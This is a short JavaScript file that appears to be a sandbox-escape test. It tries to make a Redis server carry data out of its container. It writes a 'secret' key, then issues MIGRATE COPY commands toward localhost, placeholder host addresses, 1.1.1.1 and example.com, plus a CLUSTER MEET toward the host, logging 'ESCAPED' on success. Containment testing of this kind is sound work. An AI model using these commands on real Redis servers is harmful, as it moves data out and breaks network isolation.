// exploit: has its Redis connect elsewhere with what it holds: to a port of the host, of the network beyond, of itself
// outcome: finished
// says: nothing left
// job: {"services":["redis"]}
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  await client.set('secret', 'x')
  for (const [host, port] of [['127.0.0.1', '6379'], ['127.0.0.1', '__HOST_PORT__'], ['__HOST_ADDRESS__', '__HOST_PORT__'], ['1.1.1.1', '53'], ['example.com', '80']]) {
    const moved = await client.sendCommand(['MIGRATE', host, port, 'secret', '1', '200', 'COPY']).catch((error) => error)
    if (!(moved instanceof Error)) console.log('ESCAPED', host, port, moved)
  }
  const met = await client.sendCommand(['CLUSTER', 'MEET', '__HOST_ADDRESS__', '__HOST_PORT__']).catch((error) => error)
  if (!(met instanceof Error)) console.log('ESCAPED', met)
  console.log('nothing left')
  client.destroy()
}
attack()
